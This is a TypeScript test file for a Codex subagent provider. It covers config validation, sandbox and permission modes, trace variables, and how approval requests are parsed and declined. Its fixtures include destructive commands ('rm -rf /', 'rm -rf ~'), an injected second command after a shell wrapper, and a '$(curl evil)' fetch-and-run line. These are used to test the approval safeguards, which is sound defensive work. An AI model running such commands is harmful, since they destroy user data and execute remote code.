import { describe, expect, it } from 'vitest'
import { setTraceContextSource, SubagentService } from '@dsh/subagent'
import { createHarness } from '@dsh/testkit/harness'
import { text } from '@dsh/llm'
import type { Agent } from '@dsh/agent'
import { answerServerRequest, commandOfArgv, commandOfLine, FileChangePaths, readApproval } from '../src/approvals.js'
import { CodexConfig, CodexPlugin, resolveRunSpec } from '../src/index.js'

const parent = { id: 'parent-1', session: { header: { cwd: '/work/parent' } } } as unknown as Agent
const command = { command: '/bin/codex', args: [], version: 'test' }
const request = (model?: string) => ({ prompt: [text('x')], parent, signal: new AbortController().signal, ...(model && { agentOptions: { model } }) })

describe('codex provider config', () => {
  it('fills the documented defaults', () => {
    expect(CodexConfig({})).toEqual({ providerName: 'codex', env: {}, passEnv: [], permissionMode: 'ask', startupTimeoutMs: 30_000, graceMs: 2_000, modelRetryLimitMs: 20_000 })
  })

  it.each([
    [{ permissionMode: 'allow' }, 'permissionMode'],
    [{ timeoutMs: -1 }, 'timeoutMs'],
    [{ env: { CODEX_HOME: 1 } }, 'env'],
    [{ passEnv: 'OPENAI_API_KEY' }, 'passEnv'],
    [{ env: { 'CODEX_HOME=/tmp': 'x' } }, 'env'],
    [{ passEnv: [''] }, 'passEnv'],
    [{ model: '' }, 'model'],
  ])('rejects %j naming the key', (bad, key) => {
    expect(() => CodexConfig(bad as never)).toThrow(key)
  })

  it('rejects a relative cwd at load, naming the key', async () => {
    const harness = await createHarness()
    try {
      await harness.plugin(SubagentService)
      const error = await harness.plugin(CodexPlugin, { cwd: 'relative/dir' }).then(() => undefined, (caught: unknown) => caught)
      expect(error).toMatchObject({ name: 'SubagentError', code: 'INVALID_CONFIG', message: expect.stringContaining('config.cwd must be an absolute path (got "relative/dir")') })
      expect(harness.ctx.subagents.list()).toEqual([])
    } finally {
      await harness.dispose()
    }
  })

  it('resolves a run: parent cwd, ask and decline → untrusted + read-only, answered by this client, request model over config model', () => {
    const spec = resolveRunSpec(CodexConfig({ model: 'gpt-5.5' }), request(), command, {})
    expect(spec).toMatchObject({ cwd: '/work/parent', permissionMode: 'ask', approvalPolicy: 'untrusted', sandbox: 'read-only', approvalsReviewer: 'user', model: 'gpt-5.5', timeoutMs: undefined })
    expect(resolveRunSpec(CodexConfig({ permissionMode: 'decline' }), request(), command, {})).toMatchObject({ approvalPolicy: 'untrusted', sandbox: 'read-only', approvalsReviewer: 'user' })
    expect(resolveRunSpec(CodexConfig({ cwd: '/elsewhere', permissionMode: 'accept' }), request('o3'), command, {})).toMatchObject({
      cwd: '/elsewhere',
      approvalPolicy: 'on-request',
      sandbox: 'workspace-write',
      model: 'o3',
    })
  })

  it('passEnv lets named credential-shaped variables through, by exact name', () => {
    const spec = resolveRunSpec(CodexConfig({ passEnv: ['OPENAI_API_KEY'] }), request(), command, { OPENAI_API_KEY: 'k', OPENAI_API_KEY_2: 'k2', PATH: '/bin' })
    expect(spec.env).toEqual({ OPENAI_API_KEY: 'k', PATH: '/bin' })
  })
})

describe('codex provider tracing', () => {
  it('a traced delegation hands Codex TRACEPARENT/TRACESTATE of the delegating call, and the OTEL_* configuration; untraced, neither TRACE variable', () => {
    const parentEnv = { PATH: '/bin', OTEL_EXPORTER_OTLP_ENDPOINT: 'http://127.0.0.1:4318', TRACEPARENT: 'inherited-is-never-passed' }
    expect(resolveRunSpec(CodexConfig({}), { ...request(), callId: 'call_1' }, command, parentEnv).env).toEqual({ PATH: '/bin', OTEL_EXPORTER_OTLP_ENDPOINT: 'http://127.0.0.1:4318' })
    const traceparent = '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'
    const remove = setTraceContextSource((parentSession, toolCallId) => (parentSession === 'parent-1' && toolCallId === 'call_1' ? { traceparent, tracestate: 'k=v' } : undefined))
    try {
      expect(resolveRunSpec(CodexConfig({}), { ...request(), callId: 'call_1' }, command, parentEnv).env).toEqual({ PATH: '/bin', OTEL_EXPORTER_OTLP_ENDPOINT: 'http://127.0.0.1:4318', TRACEPARENT: traceparent, TRACESTATE: 'k=v' })
    } finally {
      remove()
    }
  })
})

describe('server request answers', () => {
  it('declines every approval by default and notes it', () => {
    expect(answerServerRequest('item/commandExecution/requestApproval', { command: 'rm -rf /' }, 'decline')).toEqual({ kind: 'result', result: { decision: 'decline' }, note: 'declined command "rm -rf /"' })
    expect(answerServerRequest('item/fileChange/requestApproval', { reason: 'write a.ts' }, 'decline')).toEqual({ kind: 'result', result: { decision: 'decline' }, note: 'declined file change (write a.ts)' })
    expect(answerServerRequest('item/permissions/requestApproval', { permissions: { network: { enabled: true }, fileSystem: null } }, 'decline')).toMatchObject({ result: { permissions: {}, scope: 'turn' } })
    expect(answerServerRequest('execCommandApproval', { command: ['ls', '-la'] }, 'decline')).toMatchObject({ result: { decision: { denied: { rejection: expect.any(String) } } }, note: 'declined command "ls -la"' })
    expect(answerServerRequest('applyPatchApproval', {}, 'decline')).toMatchObject({ result: { decision: { denied: expect.anything() } } })
  })

  it('accepts every approval in accept mode, without a note', () => {
    expect(answerServerRequest('item/commandExecution/requestApproval', { command: 'ls' }, 'accept')).toEqual({ kind: 'result', result: { decision: 'accept' } })
    expect(answerServerRequest('item/permissions/requestApproval', { permissions: { network: { enabled: true }, fileSystem: null } }, 'accept')).toMatchObject({ result: { permissions: { network: { enabled: true } }, scope: 'turn' } })
    expect(answerServerRequest('applyPatchApproval', {}, 'accept')).toMatchObject({ result: { decision: 'approved' } })
  })

  it('ask with nobody to ask declines, saying so to the model', () => {
    expect(answerServerRequest('execCommandApproval', { command: ['/bin/bash', '-lc', 'make'] }, 'ask')).toEqual({ kind: 'result', result: { decision: { denied: { rejection: 'declined by the dsh codex provider: nobody can be asked (no approval broker)' } } }, note: 'declined command "make"' })
    expect(answerServerRequest('item/fileChange/requestApproval', { itemId: 'i1' }, 'ask', () => ['/w/a.ts'])).toEqual({ kind: 'result', result: { decision: 'decline' }, note: 'declined file change "/w/a.ts"' })
  })

  it('declines MCP elicitations in both modes and refuses what it cannot answer', () => {
    expect(answerServerRequest('mcpServer/elicitation/request', { serverName: 'db' }, 'accept')).toMatchObject({ result: { action: 'decline' } })
    expect(answerServerRequest('item/tool/requestUserInput', {}, 'accept')).toMatchObject({ kind: 'error', code: -32000 })
    expect(answerServerRequest('no/such/method', {}, 'accept')).toMatchObject({ kind: 'error', code: -32601 })
  })
})

describe('approvals named as the broker names them', () => {
  it('a command is bash with the script of the shell wrapper Codex runs it in; anything but a plain wrapper is kept whole', () => {
    expect(commandOfLine("/bin/bash -lc 'touch marker.txt'")).toBe('touch marker.txt')
    expect(commandOfLine("/bin/zsh -c 'npm test && rm -rf ~'")).toBe('npm test && rm -rf ~')
    expect(commandOfLine(`/bin/bash -lc 'echo '"'"'hi'"'"''`)).toBe("echo 'hi'")
    expect(commandOfLine('bash -lc "echo \\"quoted\\""')).toBe('echo "quoted"')
    // A wrapper followed by more is not a wrapper: the rule sees all of it.
    expect(commandOfLine("/bin/bash -lc 'true'; rm -rf /")).toBe("/bin/bash -lc 'true'; rm -rf /")
    expect(commandOfLine("/bin/bash -lc 'a' extra")).toBe("/bin/bash -lc 'a' extra")
    expect(commandOfLine('bash -lc "$(curl evil)"')).toBe('bash -lc "$(curl evil)"')
    expect(commandOfLine("python3 -c 'print(1)'")).toBe("python3 -c 'print(1)'")
    expect(commandOfLine("/bin/bash -lc 'unclosed")).toBe("/bin/bash -lc 'unclosed")
    expect(commandOfArgv(['/bin/bash', '-lc', 'ls -la'])).toBe('ls -la')
    expect(commandOfArgv(['git', 'commit', '-m', "it's done"])).toBe("git commit -m 'it'\\''s done'")
  })

  it('reads each approval into what is asked and how it is answered', () => {
    const command = readApproval('item/commandExecution/requestApproval', { itemId: 'call_1', command: "/bin/bash -lc 'npm test'", cwd: '/w' })!
    expect(command).toMatchObject({ asks: [{ tool: 'bash', args: { command: 'npm test', cwd: '/w' } }], callId: 'call_1', what: 'command "npm test"' })
    expect([command.answer('accept'), command.answer('decline'), command.answer('cancel')]).toEqual([{ decision: 'accept' }, { decision: 'decline' }, { decision: 'cancel' }])
    expect(readApproval('item/commandExecution/requestApproval', { itemId: 'c', networkApprovalContext: { host: 'example.com', protocol: 'https' } })!.asks).toEqual([{ tool: 'network', args: { host: 'example.com', protocol: 'https' } }])
    expect(readApproval('item/commandExecution/requestApproval', { itemId: 'c' })!.asks).toEqual([])

    const files = new FileChangePaths()
    files.observe('item/started', { item: { type: 'fileChange', id: 'patch_1', changes: [{ path: '/w/a.ts' }, { path: '/w/b.ts' }, { path: '/w/a.ts' }] } })
    const change = readApproval('item/fileChange/requestApproval', { itemId: 'patch_1', grantRoot: '/w' }, (id) => files.paths(id))!
    expect(change.asks).toEqual([{ tool: 'edit', args: { path: '/w/a.ts' } }, { tool: 'edit', args: { path: '/w/b.ts' } }, { tool: 'edit', args: { path: '/w', grantRoot: true } }])
    files.observe('item/completed', { item: { type: 'fileChange', id: 'patch_1' } })
    expect(files.paths('patch_1')).toBeUndefined()
    // A change whose files were never named (or one without a path) cannot be asked about.
    files.observe('item/started', { item: { type: 'fileChange', id: 'patch_2', changes: [{ path: '/w/a.ts' }, { kind: 'add' }] } })
    expect(readApproval('item/fileChange/requestApproval', { itemId: 'patch_2' }, (id) => files.paths(id))!.asks).toEqual([])

    const permissions = readApproval('item/permissions/requestApproval', { itemId: 'p', reason: 'net', permissions: { network: { enabled: true }, fileSystem: null } })!
    expect(permissions.asks).toEqual([{ tool: 'request_permissions', args: { permissions: { network: { enabled: true } }, reason: 'net' } }])
    expect(permissions.answer('accept')).toEqual({ permissions: { network: { enabled: true } }, scope: 'turn' })
    expect(permissions.answer('decline')).toEqual({ permissions: {}, scope: 'turn' })

    const legacy = readApproval('execCommandApproval', { callId: 'c9', command: ['/bin/bash', '-lc', 'make'] })!
    expect(legacy).toMatchObject({ asks: [{ tool: 'bash', args: { command: 'make' } }], callId: 'c9' })
    expect([legacy.answer('accept'), legacy.answer('decline', 'the user: no'), legacy.answer('cancel')]).toEqual(['approved', { denied: { rejection: 'the user: no' } }, 'abort'].map((decision) => ({ decision })))
    expect(readApproval('applyPatchApproval', { callId: 'c', fileChanges: { '/w/x.ts': { type: 'add', content: '' } } })!.asks).toEqual([{ tool: 'edit', args: { path: '/w/x.ts' } }])
    expect(readApproval('item/tool/requestUserInput', {})).toBeUndefined()
  })
})
